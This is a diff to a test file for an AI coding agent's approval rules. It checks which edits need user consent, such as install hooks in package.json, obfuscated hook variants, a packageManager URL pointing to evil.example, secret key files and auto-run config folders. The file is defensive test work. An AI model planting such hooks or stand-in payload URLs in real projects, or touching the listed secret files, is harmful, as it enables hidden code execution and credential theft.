@@ -1,6 +1,6 @@
 import assert from "node:assert/strict";
 import { shownAsk } from "../../src/agent/approval/ask.ts";
-import { riskOf } from "../../src/agent/approval/risk.ts";
+import { namesOfRoot, riskOf } from "../../src/agent/approval/risk.ts";
 import { type Rule, verdict } from "../../src/agent/approval/rules.ts";
 import { PendingApprovals } from "../../src/chat/session/pendingApprovals.ts";
 
@@ -73,7 +73,25 @@ const obeyed: Record<string, readonly string[]> = {
     "skills/test/SKILL.md",
     ".mcp.json",
     "mcp.json",
+    "mcp_config.json",
+    "opencode.json",
+    "WARP.md",
   ],
+  program: [
+    "sitecustomize.py",
+    "lib/usercustomize.py",
+    "site-packages/evil.pth",
+    "build.rs",
+    "crates/a/build.rs",
+    "Directory.Build.targets",
+    "Directory.Build.props",
+    "package-lock.json",
+    "web/yarn.lock",
+    "pnpm-lock.yaml",
+    "Cargo.lock",
+    "gradle/wrapper/gradle-wrapper.properties",
+  ],
+  secret: ["id_rsa", "credentials.json", "tls/server.pem", "prod.env", "config/secrets.yml"],
   hidden: [".npmrc", ".bashrc", ".config/app.toml", "a/.hidden/b.ts", ".eslintrc.js", ".yarn/releases/yarn.cjs"],
 };
 /** Plain files, near in name. */
@@ -89,6 +107,15 @@ const plain = [
   "agents/readme.md",
   "ci/readme.md",
   "test/pre/commit.ts",
+  "package.json",
+  "tsconfig.json",
+  "Makefile",
+  "pyproject.toml",
+  "Cargo.toml",
+  "conftest.py",
+  "vite.config.ts",
+  "src/build.ts",
+  "locks.ts",
   "update.ts",
   "a..b/c.ts",
   "../x.ts",
@@ -100,6 +127,41 @@ const everything: Rule[] = [
 ];
 const call = (path: string, tool = "create_file") =>
   ({ tool, ask: { kind: "edit", change: { path, before: undefined, after: "{}" } } }) as const;
+
+/** Changes of a manifest: what stood there, what will, and whether the user is asked. */
+const manifests: Record<string, [path: string, before: string | undefined, after: string, asks: boolean]> = {
+  "a dependency": ["package.json", '{"dependencies":{}}', '{"dependencies":{"a":"1"}}', false],
+  "a script that is run by name": ["package.json", "{}", '{"scripts":{"build":"tsc"}}', false],
+  "what runs after an install": ["package.json", "{}", '{"scripts":{"postinstall":"node x"}}', true],
+  "what runs after an install, in a part": ["a/package.json", "{}", '{"scripts":{"prepare":"node x"}}', true],
+  "what runs then, changed": ["package.json", '{"scripts":{"install":"a"}}', '{"scripts":{"install":"b"}}', true],
+  "what runs then, as it was": [
+    "package.json",
+    '{"scripts":{"install":"a"}}',
+    '{"version":"2","scripts":{"install":"a"}}',
+    false,
+  ],
+  "what runs then, written otherwise": ["package.json", "{}", '{"scripts":{"post\\u0069nstall":"node x"}}', true],
+  "what runs then, given twice": ["package.json", "{}", '{"scripts":{},"scripts":{"postinstall":"x"}}', true],
+  "a new file that runs then": ["package.json", undefined, '{"scripts":{"preinstall":"x"}}', true],
+  "what runs before a commit": ["package.json", "{}", '{"lint-staged":{"*":"node x"}}', true],
+  "which package manager runs": ["package.json", "{}", '{"packageManager":"yarn@https://evil.example/y.js"}', true],
+  "a text that is no JSON": ["package.json", "{}", '\ufeff{"scripts":{"postinstall":"x"}}', true],
+  "a name in upper case": ["Package.JSON", "{}", '{"scripts":{"postinstall":"x"}}', true],
+  "the prototype": ["package.json", "{}", '{"__proto__":{"scripts":{"postinstall":"x"}}}', false],
+  "scripts of Composer": ["composer.json", "{}", '{"scripts":{"post-install-cmd":"x"}}', true],
+};
+
+/** Folders of a workspace that stand themselves where programs obey what is in them. */
+const roots: Record<string, [root: string, path: string, asks: boolean]> = {
+  "the editor's": ["/home/u/p/.vscode", "tasks.json", true],
+  "of workflows": ["/home/u/p/.github/workflows", "ci.yml", true],
+  "of hooks": ["/home/u/p/.husky", "pre-commit", true],
+  "of a worktree": ["/home/u/p/.claude/worktrees/one", "src/a.ts", false],
+  "below a hidden one": ["/home/u/.worktrees/one", "src/a.ts", false],
+  "of dotfiles": ["/home/u/.dotfiles", "zshrc", true],
+  "the root": ["/", "a.ts", false],
+};
 
 describe("standing consent", () => {
   for (const [risk, paths] of Object.entries(obeyed))
@@ -114,6 +176,17 @@ describe("standing consent", () => {
     it(`covers ${path}`, () => {
       assert.equal(verdict(call(path), everything).decision, "allow");
       assert.equal(riskOf(path), undefined);
+    });
+  for (const [what, [path, before, after, asks]] of Object.entries(manifests))
+    it(`${asks ? "does not cover" : "covers"} in a manifest ${what}`, () => {
+      const ask = { kind: "edit", change: { path, before, after } } as const;
+      assert.equal(verdict({ tool: "edit_file", ask }, everything).decision, asks ? "ask" : "allow");
+    });
+  for (const [what, [root, path, asks]] of Object.entries(roots))
+    it(`${asks ? "does not cover" : "covers"} a file in a folder of the workspace: ${what}`, () => {
+      const judged = [...namesOfRoot(root), path].join("/");
+      const ask = { kind: "edit", change: { path, judged, before: undefined, after: "" } } as const;
+      assert.equal(verdict({ tool: "create_file", ask }, everything).decision, asks ? "ask" : "allow");
     });
   it("is not taken from an answer to such a card, whatever scope it names", async () => {
     for (const scope of ["chat", "workspace"] as const) {
